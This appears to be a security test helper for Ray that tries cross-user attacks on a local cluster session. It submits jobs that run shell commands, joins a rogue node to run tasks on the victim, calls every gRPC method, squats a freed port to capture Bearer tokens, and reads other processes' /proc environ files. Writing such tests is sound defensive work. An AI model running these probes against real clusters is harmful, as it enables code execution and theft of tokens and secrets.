"""What somebody else on the machine can try on a Ray: one step a process, told by environment.

Run as another user, with or without the session's token and certificate. A step prints `REACHED`
and what it got, or fails. It imports nothing of ours, so that it can lie where that user may read.
"""

import json
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from contextlib import suppress
from pathlib import Path

TOLD = json.loads(os.environ["ATTACK"])
TOKEN = os.environ.get("RAY_AUTH_TOKEN")
CERTIFICATE, KEY = (os.environ.get(f"RAY_TLS_SERVER_{name}") for name in ("CERT", "KEY"))
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
# Without a node's id, a request of RaySyncer ends the raylet: a check fails before the token is
# asked for. It takes the certificate to get that far.
NODE = (("node_id", "ab" * 28),)
PAGES = ("/", "/metrics", "/api/jobs/", "/api/job_agent/jobs/x/logs", "/logs/", "/api/healthz")
POSTS = ("/api/job_agent/jobs/", "/get_or_create_runtime_env", "/delete_runtime_env_if_possible")


def list_keys():
    """What every state command does: ask the GCS."""
    from ray._raylet import GcsClient

    found = GcsClient(address=TOLD["gcs"]).internal_kv_keys(b"", None, timeout=10)
    print("REACHED", len(found), "keys")


def job():
    """Have an agent run a command: the HTTP behind `ray job submit`."""
    mark = os.path.join(TOLD["folder"], f"job-{time.monotonic_ns()}")
    body = {"entrypoint": f"id -u > {mark}", "submission_id": f"other-{os.getpid()}"}
    for port in TOLD["names"]:
        status, _ = http(port, "/api/job_agent/jobs/", json.dumps(body).encode())
        print(port, status)
        until = time.monotonic() + 60
        while status == 200 and time.monotonic() < until:
            with suppress(FileNotFoundError):
                if uid := Path(mark).read_text().strip():
                    print("REACHED as uid", uid)
                    return
            time.sleep(0.2)


def join():
    """Bring a node of one's own and run a task on the other node."""
    import ray

    temp = os.path.join(TOLD["folder"], f"r{os.getpid()}")
    here = (
        "import ray._private.services as s; s.resolve_ip_for_localhost = lambda host: host; "
        "from ray.scripts.scripts import main; main()"
    )
    command = [sys.executable, "-c", here, "start", f"--address={TOLD['gcs']}"]
    command += ["--node-ip-address=127.0.0.1", f"--temp-dir={temp}", "--num-cpus=1"]
    command += ["--object-store-memory=100000000", "--disable-usage-stats"]
    started = subprocess.run(command, timeout=300, check=False)
    print("ray start:", started.returncode, flush=True)
    import ray._private.services as services

    services.resolve_ip_for_localhost = lambda host: host
    ray.init(TOLD["gcs"], _node_ip_address="127.0.0.1", _temp_dir=temp, log_to_driver=False)
    mine = ray.get_runtime_context().get_node_id()
    (victim,) = [n["NodeID"] for n in ray.nodes() if n["Alive"] and n["NodeID"] != mine]
    strategy = ray.util.scheduling_strategies.NodeAffinitySchedulingStrategy(victim, soft=False)
    task = ray.remote(lambda: os.getuid()).options(scheduling_strategy=strategy)
    print("REACHED as uid", ray.get(task.remote(), timeout=60))


def submit():
    """Be a driver on the node that is there."""
    import ray
    import ray._private.services as services

    services.resolve_ip_for_localhost = lambda host: host
    ray.init(TOLD["gcs"], _node_ip_address="127.0.0.1", log_to_driver=False)
    print("REACHED as uid", ray.get(ray.remote(lambda: os.getuid()).remote(), timeout=60))


def calls():
    """Every method of every gRPC service that a port has, and every HTTP path that we know.

    Prints a JSON object: answer by process, port and path. With a token, only what changes nothing.
    A port without gRPC, or that we cannot speak gRPC with, is tried by HTTP.
    """
    answers = {}
    for port, name in TOLD["names"].items():
        found = dict(grpc_answers(port))
        if not found:
            found = {path: http(port, path)[0] for path in PAGES}
            if TOKEN is None:
                found |= {path: http(port, path, b"")[0] for path in POSTS}
            found["/get_runtime_envs_info"] = http(port, "/get_runtime_envs_info", b"")[0]
        answers |= {f"{name} {port} {path}": answer for path, answer in found.items()}
    print(json.dumps(answers))


def grpc_answers(port):
    """(path, code) of each method, empty requests; nothing where a port speaks no gRPC."""
    import grpc

    channel = connected(port)
    with suppress(grpc.FutureTimeoutError):
        grpc.channel_ready_future(channel).result(timeout=2)
        told = NODE if TOKEN is None else (*NODE, ("authorization", f"Bearer {TOKEN}"))
        for path, requests, responses in methods(channel):
            if TOKEN is not None and not path.rpartition("/")[2].startswith("Get"):
                continue
            many = ("unary", "stream")
            kind = getattr(channel, f"{many[requests]}_{many[responses]}")
            try:
                answer = kind(path)(iter([b""]) if requests else b"", timeout=3, metadata=told)
                if responses:
                    next(iter(answer), None)
                yield path, "OK"
            except grpc.RpcError as e:
                if e.code() != grpc.StatusCode.UNIMPLEMENTED:
                    yield path, e.code().name


def connected(port):
    import grpc

    address = f"127.0.0.1:{port}"
    if not KEY:
        return grpc.insecure_channel(address)
    certificate, key = Path(CERTIFICATE).read_bytes(), Path(KEY).read_bytes()
    return grpc.secure_channel(address, grpc.ssl_channel_credentials(certificate, key, certificate))


def squat():
    """Take the port of a process that has died and print what the others send there."""
    from concurrent.futures import ThreadPoolExecutor

    import grpc

    class Listener(grpc.GenericRpcHandler):
        def service(self, call):
            sent = dict(call.invocation_metadata).get("authorization", "")
            print("REACHED" if sent.startswith("Bearer ") else "", call.method, flush=True)

    address = f"127.0.0.1:{TOLD['freed']}"
    server = grpc.server(ThreadPoolExecutor(4), (Listener(),), options=[("grpc.so_reuseport", 0)])
    until = time.monotonic() + 60
    while True:
        try:
            if KEY:
                pair = (Path(KEY).read_bytes(), Path(CERTIFICATE).read_bytes())
                server.add_secure_port(address, grpc.ssl_server_credentials([pair]))
            else:
                server.add_insecure_port(address)
            break
        except RuntimeError:  # not free yet
            if time.monotonic() > until:
                raise
            time.sleep(0.02)
    server.start()
    print("TAKEN", flush=True)
    time.sleep(10)


def methods(channel):
    """(path, whether it takes a stream, whether it gives one): what Ray's Python knows of, and what
    the port's reflection tells."""
    import importlib
    import pkgutil

    import grpc
    import ray.core.generated as generated
    from google.protobuf import descriptor_pb2

    found = set()
    for module in pkgutil.iter_modules(generated.__path__):
        if module.name.endswith("_pb2"):
            described = importlib.import_module(f"{generated.__name__}.{module.name}").DESCRIPTOR
            for service in described.services_by_name.values():
                for m in service.methods:
                    path = f"/{service.full_name}/{m.name}"
                    found.add((path, m.client_streaming, m.server_streaming))
    try:
        services = [bytes(v).decode() for v in inside(reflect(channel, 7, b"*"), 6, 1, 1)]
    except grpc.RpcError:
        return sorted(found)  # no reflection, or no gRPC at all
    for name in services:
        for file in inside(reflect(channel, 4, name.encode()), 4, 1):
            described = descriptor_pb2.FileDescriptorProto.FromString(bytes(file))
            for service in described.service:
                for m in service.method:
                    path = f"/{described.package}.{service.name}/{m.name}"
                    found.add((path, m.client_streaming, m.server_streaming))
    return sorted(found)


def reflect(channel, field, value):
    """Ask for services (field 7) or for the file that a symbol is in (field 4)."""
    request = bytes([field << 3 | 2, len(value)]) + value
    return next(channel.stream_stream(REFLECTION)(iter([request]), timeout=3))


def inside(message, *path):
    """The bytes at a path of field numbers in a protobuf message without its schema."""
    if not path:
        yield message
        return
    at = 0

    def varint():
        nonlocal at
        value = shift = 0
        while True:
            byte = message[at]
            at, value, shift = at + 1, value | (byte & 127) << shift, shift + 7
            if byte < 128:
                return value

    while at < len(message):
        key = varint()
        if key & 7 == 2:
            length = varint()
            at += length
            if key >> 3 == path[0]:
                yield from inside(message[at - length : at], *path[1:])
        elif key & 7 == 0:
            varint()
        else:
            at += 4 if key & 7 == 5 else 8


def http(port, path, body=None):
    """(status, answer), or (0, why) where the port speaks no HTTP."""
    headers = {"Content-Type": "application/json"}
    if TOKEN is not None:
        headers["Authorization"] = f"Bearer {TOKEN}"
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", body, headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as page:
            return page.status, page.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()
    except Exception as e:
        return 0, repr(e).encode()


def local():
    """Enter the session's folder, connect to its Unix sockets, read its processes' environment."""
    for path in TOLD["sockets"]:
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(path)
            print("REACHED", path)
        except OSError as e:
            print(path, e)
    for path in [TOLD["session"], *(f"/proc/{pid}/environ" for pid in TOLD["pids"])]:
        try:
            found = os.listdir(path) if os.path.isdir(path) else Path(path).read_bytes()
            print("REACHED", path, len(found))
        except OSError as e:
            print(path, e)


if __name__ == "__main__":
    globals()[sys.argv[1]]()
